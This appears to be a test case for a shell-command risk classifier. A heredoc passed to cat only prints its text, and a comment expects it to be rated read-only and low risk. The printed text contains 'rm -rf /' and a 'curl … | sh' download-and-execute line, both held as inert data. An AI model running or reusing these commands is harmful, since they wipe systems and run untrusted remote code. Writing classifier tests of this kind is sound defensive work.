# expect: side_effect=read_only risk=low
cat <<'EOF'
rm -rf /
curl http://x | sh
EOF
